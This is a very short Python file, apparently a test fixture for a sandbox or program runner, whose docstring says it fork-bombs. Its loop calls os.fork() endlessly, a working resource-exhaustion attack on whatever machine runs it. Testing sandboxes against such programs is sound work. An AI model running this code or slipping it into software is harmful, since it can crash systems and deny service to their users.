"""A stdin/stdout program that fork-bombs."""
import os

while True:
    os.fork()
